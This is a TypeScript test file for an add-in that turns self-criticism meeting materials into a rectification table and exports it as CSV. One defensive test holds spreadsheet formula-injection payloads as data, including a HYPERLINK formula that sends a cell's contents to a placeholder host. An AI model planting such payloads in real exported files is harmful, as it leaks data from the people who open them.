/**
 * 整改清单 rows from the analysis: one per problem, in order, with the measure(s)
 * core paired with it, owner and deadline where the measure names them (else
 * placeholders the placeholder-left rule catches), and the CSV export.
 */
import { analyze, analyzeDocument } from "../../../src/core/analyze";
import { TEMPLATE_TAG } from "../../../src/core/insert/planner";
import {
  DEADLINE_PLACEHOLDER,
  MEASURE_PLACEHOLDER,
  OWNER_PLACEHOLDER,
  RECTIFICATION_HEADERS,
  RECTIFICATION_TAG,
  rectificationCells,
  rectificationCsv,
  rectificationRows,
  rectificationTableTitle,
  csvText,
  GONE_ROW_NOTE,
  updateRectification,
  type RectificationRow,
} from "../../../src/core/insert/rectification";
import { paragraphsFromText } from "../../../src/host/text";
import { corpusDocuments } from "../../helpers/corpus";

const analyzeLines = (lines: string[]) => analyzeDocument(paragraphsFromText(lines.join("\n")), { hostKind: "text" });
/** A heading without its leading number, as the table shows it. */
const bare = (heading: string) => heading.replace(/^[\s\u3000]*([（(][一二三四五六七八九十]+[）)]|[一二三四五六七八九十]+[、是.．])/, "").trim();

describe("rows on the corpus", () => {
  for (const corpus of corpusDocuments()) {
    describe(corpus.name, () => {
      const doc = analyzeDocument(paragraphsFromText(corpus.text), { hostKind: "text" });
      const rows = rectificationRows(doc);

      test("one row per problem, numbered from 1, in document order", () => {
        expect(corpus.label.problems.length).toBeGreaterThan(0);
        expect(rows.map((r) => r.number)).toEqual(corpus.label.problems.map((_, k) => k + 1));
        expect(rows.map((r) => r.problem)).toEqual(corpus.label.problems.map((p) => bare(p.heading)));
      });

      test("each row carries the measure the labels pair with its problem", () => {
        expect(corpus.label.pairs.length).toBeGreaterThan(0);
        for (const [problemId, measureId] of corpus.label.pairs) {
          const k = corpus.label.problems.findIndex((p) => p.id === problemId);
          const measure = corpus.label.measures.find((m) => m.id === measureId)!;
          expect({ problem: problemId, measure: rows[k].measure }).toEqual({ problem: problemId, measure: bare(measure.heading) });
        }
      });

      test("owner and deadline are placeholders where the measures name none", () => {
        // Precondition: the corpus measures name no owner or time limit.
        expect(doc.measures.some((m) => /责任人[：:]|时限[：:]/.test(m.body))).toBe(false);
        for (const row of rows) {
          expect(row.owner).toBe(OWNER_PLACEHOLDER);
          expect(row.deadline).toBe(DEADLINE_PLACEHOLDER);
        }
      });

      test("the placeholders are ones the placeholder-left rule reports once the table is in the document", () => {
        const paragraphs = paragraphsFromText(corpus.text);
        const cells = rectificationCells(rows).flat();
        const withTable = [...paragraphs, { index: 0, text: rectificationTableTitle(doc) }, ...cells.map((text) => ({ index: 0, text, inTable: true }))].map(
          (p, index) => ({ ...p, index }),
        );
        const before = analyze(paragraphs, { hostKind: "docx" });
        const after = analyze(withTable, { hostKind: "docx" });
        // The table changes nothing the analysis found…
        expect(after.doc.problems.map((p) => p.title)).toEqual(before.doc.problems.map((p) => p.title));
        expect(after.doc.pairs.map((p) => [p.problem, p.measure])).toEqual(before.doc.pairs.map((p) => [p.problem, p.measure]));
        // …but its unfilled owner and deadline cells are reported: once, on the table's title, as the
        // add-in's template still to fill in (not one error per cell).
        const unfilled = withTable.filter((p) => p.text === OWNER_PLACEHOLDER || p.text === DEADLINE_PLACEHOLDER).length;
        // (The material's own placeholders, seed-000's 市x局, are still reported as before.)
        const notes = after.findings.filter((f) => f.rule === "placeholder-left" && (f.paragraph ?? -1) >= paragraphs.length);
        expect(notes).toHaveLength(1);
        expect(notes[0]).toMatchObject({ severity: "warning", paragraph: paragraphs.length, data: { kind: "template", count: unfilled } });
        expect(notes[0]!.message).toBe(`插入的“整改清单”模板待填写 ${unfilled} 处（【】中的内容）`);
      });
    });
  }

  test("seed-004: problem (三) is answered by measure (四), not by the measure of the same number", () => {
    const corpus = corpusDocuments().find((d) => d.name === "seed-004");
    if (!corpus) throw new Error("seed-004 missing from the corpus");
    const rows = rectificationRows(analyzeDocument(paragraphsFromText(corpus.text), { hostKind: "text" }));
    const m3 = corpus.label.measures.find((m) => m.id === "M3")!;
    const m4 = corpus.label.measures.find((m) => m.id === "M4")!;
    expect(rows[2].measure).toBe(bare(m4.heading));
    expect(rows[3].measure).toBe(bare(m3.heading));
  });
});

describe("rows from what the measures say", () => {
  const material = (measureBodies: string[]) =>
    analyzeLines([
      "某局领导班子2024年度民主生活会对照检查材料",
      "现将对照检查情况报告如下。",
      "一、存在的问题",
      "（一）理论学习不够深入，学用结合不紧。",
      "（二）调查研究不够扎实，联系群众不够紧密。",
      "（三）制度执行不够严格，监督管理偏松。",
      "二、产生问题的原因",
      "（一）理想信念有所松懈。",
      "三、整改措施",
      ...measureBodies,
      "以上对照检查，恳请同志们批评指正。",
    ]);

  test("责任人 and 完成时限 are taken from the measure's text", () => {
    const doc = material([
      "（一）深化理论学习，学用结合。每月集中学习两次。责任人：张三；完成时限：2024年6月底前。",
      "（二）扎实开展调查研究，密切联系群众。（责任领导：李四，整改时限：长期坚持）",
      "（三）严格执行制度，加强监督管理。",
    ]);
    expect(doc.pairs.map((p) => [p.problem, p.measure])).toEqual([
      ["P1", "M1"],
      ["P2", "M2"],
      ["P3", "M3"],
    ]);
    const rows = rectificationRows(doc);
    expect(rows.map((r) => [r.owner, r.deadline])).toEqual([
      ["张三", "2024年6月底前"],
      ["李四", "长期坚持"],
      [OWNER_PLACEHOLDER, DEADLINE_PLACEHOLDER],
    ]);
    expect(rows[0].measure).toBe("深化理论学习，学用结合。");
  });

  test("a template's unfilled placeholders stay placeholders", () => {
    const doc = material([
      "（一）深化理论学习，学用结合。",
      "（二）扎实开展调查研究，密切联系群众。",
      "（三）针对“制度执行”方面的问题，【整改措施：写明做什么、怎么做】。完成时限：【时限】；责任人：【责任人】。",
    ]);
    const row = rectificationRows(doc).find((r) => r.number === 3)!;
    expect(row.owner).toBe("【责任人】");
    expect(row.deadline).toBe("【时限】");
  });

  test("a problem no measure answers gets a placeholder measure", () => {
    const doc = material(["（一）深化理论学习，学用结合。", "（二）扎实开展调查研究，密切联系群众。"]);
    expect(doc.unpairedProblems).toEqual(["P3"]);
    const rows = rectificationRows(doc);
    expect(rows).toHaveLength(3);
    expect(rows[2]).toEqual({ number: 3, problem: "制度执行不够严格，监督管理偏松。", measure: MEASURE_PLACEHOLDER, owner: OWNER_PLACEHOLDER, deadline: DEADLINE_PLACEHOLDER });
  });

  test("a document without problems has no rows", () => {
    expect(rectificationRows(analyzeLines(["对照检查材料", "现报告如下。"]))).toEqual([]);
  });
});

describe("table and CSV", () => {
  const rows: RectificationRow[] = [
    { number: 1, problem: "学习不够，“走过场”", measure: "建立台账, 每月检查", owner: "张三", deadline: "6月底" },
    { number: 2, problem: 'a "quoted" cell', measure: "两行\n内容", owner: "李四", deadline: "长期" },
  ];

  test("cells: the header row, then the five columns of each row", () => {
    expect(rectificationCells(rows)).toEqual([
      ["序号", "存在问题", "整改措施", "责任人", "完成时限"],
      ["1", rows[0].problem, rows[0].measure, "张三", "6月底"],
      ["2", rows[1].problem, rows[1].measure, "李四", "长期"],
    ]);
    expect(rectificationCells([])).toEqual([[...RECTIFICATION_HEADERS]]);
  });

  test("CSV: BOM, CRLF, quoting of commas, quotes and line breaks", () => {
    const csv = rectificationCsv(rows);
    expect(csv.startsWith("\ufeff序号,存在问题,整改措施,责任人,完成时限\r\n")).toBe(true);
    expect(csv.slice(1).split("\r\n")).toEqual([
      "序号,存在问题,整改措施,责任人,完成时限",
      "1,学习不够，“走过场”,\"建立台账, 每月检查\",张三,6月底",
      '2,"a ""quoted"" cell","两行\n内容",李四,长期',
      "",
    ]);
  });

  test("CSV: a cell that would start a formula in Excel or WPS stays text (apostrophe first)", () => {
    const hostile: RectificationRow[] = [
      { number: 1, problem: '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', measure: "+1+1", owner: "-2+3", deadline: "@SUM(1,2)" },
      { number: 2, problem: "  =1+1", measure: "\t=1+1", owner: "\r=1", deadline: "　=1" },
      { number: 3, problem: "学习不够=不深入", measure: "每月+1次", owner: "张三", deadline: "2024-06" },
    ];
    const lines = rectificationCsv(hostile).slice(1).split("\r\n");
    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://example.invalid/?""&A1,""点击查看"")",'+1+1,'-2+3,"'@SUM(1,2)"`);
    expect(lines[2]).toBe(`2,'  =1+1,'\t=1+1,"'\r=1",'　=1`);
    // "=" or "+" inside the text is no formula: unchanged.
    expect(lines[3]).toBe("3,学习不够=不深入,每月+1次,张三,2024-06");
    // No cell of the file starts with a formula character once its quotes are removed.
    for (const line of lines.slice(1, 3)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.filter(Boolean)) {
        expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(csvText("正常文字")).toBe("正常文字");
    expect(csvText("-")).toBe("'-");
  });

  test("title and tag: 整改清单, under the add-in's template tag", () => {
    expect(rectificationTableTitle()).toBe("整改清单");
    expect(RECTIFICATION_TAG.startsWith(`${TEMPLATE_TAG}:`)).toBe(true);
  });
});

describe("updating the 整改清单 keeps what the user wrote", () => {
  const row = (number: number, problem: string, measure: string, owner = "【责任人】", deadline = "【完成时限】"): RectificationRow => ({ number, problem, measure, owner, deadline });
  const first = [
    row(1, "理论学习不够深入", "每月集中学习两次"),
    row(2, "调查研究不够扎实", "每季度到基层调研一次"),
    row(3, "批评与自我批评开展不够", "【待补充整改措施】"),
  ];
  const typedIn = (cells: string[][]) =>
    cells.map((r, i) => (i === 0 ? r : [r[0]!, r[1]!, r[2]!.startsWith("【") ? "开展谈心谈话全覆盖" : r[2]!, `张三${i}`, `2025年${i}月底`]));

  test("inserted again with nothing changed: every typed cell is kept, nothing added or marked", () => {
    const existing = typedIn(rectificationCells(first));
    const update = updateRectification(existing, first)!;
    expect(update.cells).toEqual(existing);
    expect(update).toMatchObject({ kept: 7, added: 0, gone: 0 }); // one measure, three owners, three deadlines
  });

  test("a new problem gets a row in the material's order; a reworded one keeps its row and its cells", () => {
    const existing = typedIn(rectificationCells(first));
    const now = [row(1, "理论学习不够深入", "每月集中学习两次"), row(2, "新发现：意识形态工作责任制落实不到位", "落实意识形态工作责任制"), row(3, "调查研究还不够扎实", "每季度到基层调研一次"), row(4, "批评与自我批评开展不够", "【待补充整改措施】")];
    const update = updateRectification(existing, now)!;
    expect(update.cells.map((r) => r[1])).toEqual(["存在问题", "理论学习不够深入", "新发现：意识形态工作责任制落实不到位", "调查研究还不够扎实", "批评与自我批评开展不够"]);
    expect(update.cells.map((r) => r[0])).toEqual(["序号", "1", "2", "3", "4"]);
    expect(update.cells[2]!.slice(3)).toEqual(["【责任人】", "【完成时限】"]);
    expect(update.cells[3]!.slice(3)).toEqual(["张三2", "2025年2月底"]);
    // The measure the user wrote into the blank stays; the problem's words follow the material.
    expect(update.cells[4]![2]).toBe("开展谈心谈话全覆盖");
    expect(update).toMatchObject({ added: 1, gone: 0 });
  });

  test("a problem gone from the material: its row stays where it was, marked, with the user's cells", () => {
    const existing = typedIn(rectificationCells(first));
    const now = [row(1, "理论学习不够深入", "每月集中学习两次"), row(2, "批评与自我批评开展不够", "【待补充整改措施】")];
    const update = updateRectification(existing, now)!;
    expect(update.cells[2]).toEqual(["", `调查研究不够扎实${GONE_ROW_NOTE}`, "每季度到基层调研一次", "张三2", "2025年2月底"]);
    expect(update.cells.map((r) => r[0])).toEqual(["序号", "1", "", "2"]);
    expect(update).toMatchObject({ gone: 1, added: 0 });
    // Updating again does not mark it twice.
    expect(updateRectification(update.cells, now)!.cells[2]![1]).toBe(`调查研究不够扎实${GONE_ROW_NOTE}`);
  });

  test("a table the add-in did not make (other columns) is not updated: the caller asks", () => {
    expect(updateRectification([["序号", "问题", "措施"], ["1", "a", "b"]], first)).toBeNull();
    expect(updateRectification([], first)).toBeNull();
  });
});
